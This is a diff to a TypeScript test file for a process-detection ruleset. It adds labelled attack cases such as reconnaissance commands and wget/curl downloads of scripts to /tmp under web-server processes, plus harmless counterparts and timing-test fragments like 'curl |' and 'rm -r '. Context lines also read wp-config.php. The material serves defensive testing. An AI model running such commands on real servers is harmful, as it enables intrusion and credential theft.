@@ -50,6 +50,14 @@ const ATTACKS: readonly (readonly [name: string, fields: Fields, rule?: string])
   ['looks_around_below_server', command('sh -c id; curl -s http://a.example', { 'proc.pname': 'nginx' })],
   ['looks_around_below_server', command('sh -c cd /var/www;whoami;pwd', { 'proc.pname': 'apache2' })],
   ['looks_around_below_server', command('sh -c cat ../wp-config.php', { 'proc.pname': 'php-fpm' })],
+  ['looks_around_below_server', command('id', { 'proc.pname': 'sh', 'proc.aname[2]': 'redis-server' })],
+  ['several_looks_below_server', command('sh -c uname -a; hostname; ps aux', { 'proc.pname': 'node' })],
+  ['several_looks_below_server', command('bash -c nproc && cat /proc/cpuinfo', { 'proc.pname': 'java' })],
+  ['download_below_server', command('wget -q -O /tmp/k http://files.example/k', { 'proc.pname': 'php-fpm8.2' })],
+  [
+    'download_below_server',
+    command('curl -O http://files.example/m.sh', { 'proc.pname': 'sh', 'proc.aname[2]': 'java' }),
+  ],
   ['kernel_thread', { 'proc.name': '[kworker/0:2]' }],
   ['disguised_interpreter', { 'proc.exepath': '/usr/bin/perl', 'proc.cmdline': '/usr/sbin/apache2 -k start' }],
   ['user_namespace_by_hand', command('unshare -Urm bash')],
@@ -128,6 +136,10 @@ const HARMLESS: readonly (readonly [fields: Fields, rule?: string])[] = [
   [{ 'proc.name': 'apk', 'proc.cmdline': 'apk add curl', 'proc.pname': 'sh' }],
   [command('bash -c id -gn etl && id -Gn etl', { 'proc.pname': 'java' })],
   [command('sh -c id', { 'proc.pname': 'containerd-shim' })],
+  [command('sh -c uname -a', { 'proc.pname': 'node' })],
+  [command('sh -c hostname; uptime; df -h', { 'proc.pname': 'containerd-shim' })],
+  [command('curl -fsS https://api.example/v1/rates', { 'proc.pname': 'php-fpm8.2' })],
+  [command('curl -o /tmp/rates.json https://api.example/v1/rates', { 'proc.pname': 'sh' })],
   [command('sh -c /usr/sbin/sendmail -t -i', { 'proc.pname': 'apache2' })],
   [{ 'proc.exepath': '/usr/bin/perl', 'proc.cmdline': 'perl /app/run.pl' }],
   [command('buildah unshare')],
@@ -208,6 +220,12 @@ test('the search takes no longer for a text that was made for it', () => {
     '/tmp/',
     'apt install ',
     '1.1.1.1',
+    'curl |',
+    'cat /',
+    'rm -r ',
+    'tar c |',
+    'eval(',
+    'id;',
   ];
   const began = performance.now();
   for (const part of parts) {
